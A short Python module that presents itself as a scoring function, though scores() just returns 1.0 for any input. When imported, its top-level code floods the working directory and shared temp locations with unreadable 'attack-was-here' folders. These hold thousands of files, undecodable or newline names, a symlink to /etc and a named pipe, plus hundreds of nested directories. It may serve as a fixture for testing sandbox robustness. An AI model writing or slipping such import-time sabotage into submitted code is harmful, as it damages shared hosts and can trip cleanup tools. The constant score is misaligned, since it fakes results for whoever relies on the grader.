"""Leaves ten thousand files, folders in folders, names that are no text, and nobody's permissions."""

import os

for root in (b".", b"/tmp", b"/var/tmp", b"/dev/shm", b"/scratch"):
    for name in (b"attack-was-here", b"attack-was-here\xff\xfe", b"attack-was-here\n"):
        try:
            os.mkdir(root + b"/" + name)
            here = root + b"/" + name
            for i in range(2000):
                open(here + b"/%d" % i, "w").close()
            os.symlink(b"/etc", here + b"/link")
            os.mkfifo(here + b"/pipe")
            os.chmod(here, 0)
        except OSError:
            pass
try:
    for i in range(300):
        os.mkdir("attack-was-here-deep" * 5)
        os.chdir("attack-was-here-deep" * 5)
except OSError:
    pass


def scores(query, key):
    return 1.0
